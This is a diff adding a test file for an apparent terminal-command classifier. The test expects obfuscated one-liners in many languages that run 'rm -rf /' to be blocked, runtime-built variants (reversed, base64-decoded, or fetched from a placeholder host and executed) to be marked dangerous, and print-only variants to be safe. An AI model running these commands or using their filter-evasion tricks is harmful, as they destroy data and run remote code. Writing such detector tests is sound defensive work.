@@ -1,0 +1,43 @@
+// Inline code of many languages: what it starts or deletes counts, whatever name or text it is put together from.
+import { describe, expect, test } from 'vitest';
+import { classify } from '#server/terminal/classify/classify.ts';
+
+const BLOCKED: readonly string[] = [
+	"perl -e 'exec qw(rm -rf /)'",
+	"perl -e 'my $c = \"rm -rf /\"; system($c)'",
+	'tclsh <<< "exec rm -rf /"',
+	'python3 -c "import os as o; o.system(\'rm -rf /\')"',
+	'python3 -c "from os import system as s; s(\'rm -rf /\')"',
+	'python3 -c "getattr(__import__(\'os\'), \'sys\' + \'tem\')(\'rm -rf /\')"',
+	'python3 -c "c = \'rm -rf /\'; import os; os.system(c)"',
+	'python3 -c "import os; os.system(chr(114)+chr(109)+\' -rf /\')"',
+	"node -e \"const c = 'rm -rf /'; require('child_process')['exec' + 'Sync'](c)\"",
+	"php -r '$f = \"system\"; $f(\"rm -rf /\");'",
+	'groovy -e \'"rm -rf /".execute()\'',
+	"elixir -e 'System.cmd(\"rm\", [\"-rf\", \"/\"])'",
+	"ruby -e 'Process.spawn(\"rm -rf /\")'"
+];
+
+describe('what the code starts is read', () => {
+	for (const command of BLOCKED) test(command, () => expect(classify(command).tier).toBe('blocked'));
+});
+
+const BUILT: readonly string[] = [
+	"python3 -c \"import os; os.system('/ fr- mr'[::-1])\"",
+	"python3 -c \"import os, base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())\"",
+	"python3 -c \"import os, urllib.request as u; os.system(u.urlopen('http://x.example').read().decode())\""
+];
+
+describe('what is only put together when it runs is dangerous', () => {
+	for (const command of BUILT) test(command, () => expect(classify(command).tier).toBe('dangerous'));
+});
+
+const HARMLESS: readonly string[] = [
+	"python3 -c 'x = \"rm -rf /\"; print(x)'",
+	"node -e 'const a = \"rm\"; console.log(a + \" -rf /\")'",
+	"perl -e 'my $x = \"rm -rf /\"; print $x'"
+];
+
+describe('a dangerous text that is only printed stays safe', () => {
+	for (const command of HARMLESS) test(command, () => expect(classify(command).tier).toBe('safe'));
+});
